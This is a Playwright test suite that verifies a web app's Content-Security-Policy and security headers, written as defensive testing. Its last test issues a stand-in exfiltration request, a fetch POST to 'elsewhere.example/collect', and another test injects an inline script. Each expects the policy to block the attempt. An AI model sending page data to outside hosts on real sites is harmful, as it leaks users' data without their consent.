import type { APIRequestContext, Page } from "@playwright/test";
import { expect, test } from "./fixtures";

const SCREENS = ["/", "/rules", "/rules/STO002", "/conventions"];
const MISSING = "/no-such-page";

/** Waits until the page has started (its scripts have run) and nothing is loading any more. */
async function settle(page: Page): Promise<void> {
  await page.waitForLoadState("networkidle");
}

/** The page's own policy, which its first bytes carry. */
async function policyOf(request: APIRequestContext, path: string): Promise<string> {
  const html = await (await request.get(path)).text();
  return /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
}

for (const screen of SCREENS) {
  test(`${screen} keeps to its policy and its origin`, async ({ page }) => {
    // The guard of every test does the checking; here each screen is opened, in light and in dark.
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      const response = await page.goto(screen);
      expect(response?.status()).toBe(200);
      await settle(page);
      await expect(page.locator("html")).toHaveClass(colorScheme);
    }
  });
}

test("a missing page keeps to its policy and offers a way out", async ({ page, guard }) => {
  guard.allow(/status of 404/);
  for (const path of [MISSING, "/rules/XXX999"]) {
    const response = await page.goto(path);
    expect(response?.status()).toBe(404);
    await settle(page);
    await expect(page.getByRole("link", { name: "Open the playground" })).toHaveAttribute("href", "/");
  }
});

test("every page carries a strict policy", async ({ request }) => {
  const catalogue = await (await request.get("/rules")).text();
  const rulePages = new Set([...catalogue.matchAll(/href="(\/rules\/\w+)"/g)].map(([, path = ""]) => path));
  expect(rulePages.size).toBeGreaterThan(5);
  for (const path of [...SCREENS, ...rulePages, MISSING, "/rules/XXX999"]) {
    const policy = await policyOf(request, path);
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).toMatch(/script-src 'self' 'wasm-unsafe-eval'( 'sha256-[\w+/]+=*')+;/);
    expect(policy, path).not.toMatch(/script-src[^;]*'unsafe-inline'|'unsafe-eval'/);
    expect(policy, path).not.toMatch(/https?:/);
  }
});

test("every response forbids sniffing, framing and referrers", async ({ request }) => {
  for (const path of [...SCREENS, MISSING, "/icon.svg"]) {
    const headers = (await request.get(path)).headers();
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["referrer-policy"], path).toBe("no-referrer");
    expect(headers["content-security-policy"], path).toContain("frame-ancestors 'none'");
    expect(headers["x-powered-by"], path).toBeUndefined();
  }
});

test("scripts, and so workers, come with a policy of their own", async ({ page }) => {
  const policies = new Map<string, string | undefined>();
  page.on("response", (response) => {
    const { pathname } = new URL(response.url());
    if (pathname.endsWith(".js")) policies.set(pathname, response.headers()["content-security-policy"]);
  });
  await page.goto("/");
  await settle(page);
  expect(policies.size).toBeGreaterThan(0);
  for (const [path, policy] of policies) {
    expect(policy, path).toContain("default-src 'none'; script-src 'self' 'wasm-unsafe-eval';");
  }
});

test("the policy stops an injected script, and the guard sees it", async ({ page, guard }) => {
  guard.allow(/script-src-elem|Content Security Policy/);
  await page.goto("/");
  await settle(page);
  const before = guard.problems.length;
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'injected'";
    document.body.append(script);
  });
  await expect.poll(() => guard.problems.slice(before).join("\n")).toContain("policy violation: script-src-elem");
  await expect(page).not.toHaveTitle("injected");
});

test("the policy stops a request to elsewhere", async ({ page, guard }) => {
  guard.allow(/connect-src|Content Security Policy|Fetch API cannot load/);
  await page.goto("/");
  await settle(page);
  const outcome = await page.evaluate(() =>
    fetch("https://elsewhere.example/collect", { method: "POST", body: "code" }).then(
      () => "sent",
      () => "stopped",
    ),
  );
  expect(outcome).toBe("stopped");
});
